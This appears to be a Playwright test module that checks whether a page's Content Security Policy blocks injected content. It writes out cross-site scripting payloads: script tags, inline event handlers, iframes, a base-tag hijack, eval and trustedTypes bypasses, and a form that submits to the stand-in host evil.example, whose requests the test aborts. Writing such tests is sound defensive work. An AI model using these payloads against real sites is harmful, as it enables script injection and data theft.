import type { BrowserContext, Page } from "playwright-core";
import { violationsOn } from "./violations.ts";

/** Whose scripts and forms would like to be in our pages; nothing answers there. */
const EVIL = "https://evil.example";

/** What a fault in a page would let somebody write into it; each says its name where it has run. */
const MARKUP: Record<string, string> = {
  script: `<script>ran("script")</script>`,
  "foreign script": `<script src="${EVIL}/x.js"></script>`,
  "data: script": `<script src="data:text/javascript,ran('data: script')"></script>`,
  "inline handler": `<img src="/nothing.png" onerror="ran('inline handler')">`,
  "svg handler": `<svg onload="ran('svg handler')"></svg>`,
  style: `<style>html { --injected: 1 }</style>`,
  base: `<base href="${EVIL}/">`,
  object: `<object data="${EVIL}/x.swf"></object>`,
  embed: `<embed src="${EVIL}/x.swf">`,
  frame: `<iframe src="${EVIL}/"></iframe>`,
  "frame with a script": `<iframe srcdoc="<script>parent.ran('frame with a script')</script>"></iframe>`,
  form: `<form id="evil-form" action="${EVIL}/take"><input name="x" value="1"></form>`,
  "javascript: link": `<a id="evil-link" href="javascript:ran('javascript: link')">x</a>`,
};

/** What a script that is already there might be talked into. */
const CODE: Record<string, string> = {
  eval: `(0, eval)("ran('eval')")`,
  Function: `new Function("ran('Function')")()`,
  "setTimeout of words": `setTimeout("ran('setTimeout of words')")`,
  innerHTML: `
    const part = document.createElement("div");
    part.innerHTML = "<img src=/nothing.png onerror=ran('innerHTML')>";
    document.body.append(part);`,
  "a script's text": `
    const script = document.createElement("script");
    script.textContent = "ran('a script that was made')";
    document.body.append(script);`,
  "a script's address": `
    const script = document.createElement("script");
    script.src = "data:text/javascript,ran('a script that was fetched')";
    document.body.append(script);`,
  "a policy of its own": `
    const policy = trustedTypes.createPolicy("evil", { createScript: (text) => text });
    (0, eval)(policy.createScript("ran('a policy of its own')"));`,
};

/** As a visitor might who takes it for the page's own. */
const USE_WHAT_IS_THERE = `
  document.querySelector("#evil-form")?.submit();
  document.querySelector("#evil-link")?.click();
`;

export const INJECTIONS = Object.keys(MARKUP).length + Object.keys(CODE).length;

/** Those that did something in a page, or of which its policy did not tell. */
export async function injectInto(context: BrowserContext, address: string): Promise<string[]> {
  const through: string[] = [];
  for (const [name, markup] of Object.entries(MARKUP)) {
    through.push(...(await inject(context, address, { name, markup, code: USE_WHAT_IS_THERE })));
  }
  for (const [name, code] of Object.entries(CODE)) {
    through.push(...(await inject(context, address, { name, markup: "", code })));
  }
  return through;
}

async function inject(
  context: BrowserContext,
  address: string,
  { name, markup, code }: { name: string; markup: string; code: string },
): Promise<string[]> {
  const page = await context.newPage();
  const violations = await violationsOn(page);
  const through: string[] = [];
  await page.exposeFunction("ran", (what: string) => through.push(`${what} ran`));
  await page.route(`${EVIL}/**`, (route) => {
    through.push(`${name} reached ${route.request().url()}`);
    return route.abort();
  });
  await serveWith(page, address, markup);
  // In a task of its own, as what the devtools run may do more than the page's scripts.
  await page.evaluate(`void setTimeout(() => { ${code} })`);
  await violations.next().catch((error: unknown) => through.push(`${name}: ${String(error)}`));
  const isMoved = await page.evaluate((evil) => document.baseURI.startsWith(evil), EVIL);
  await page.close();
  return isMoved ? [...through, `${name} moved the base`] : through;
}

/** The page as it is, headers and all, with something more in its body. */
async function serveWith(page: Page, address: string, markup: string): Promise<void> {
  await page.route(address, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(/<body[^>]*>/, (tag) => tag + markup);
    await route.fulfill({ response, body });
  });
  await page.goto(address);
}
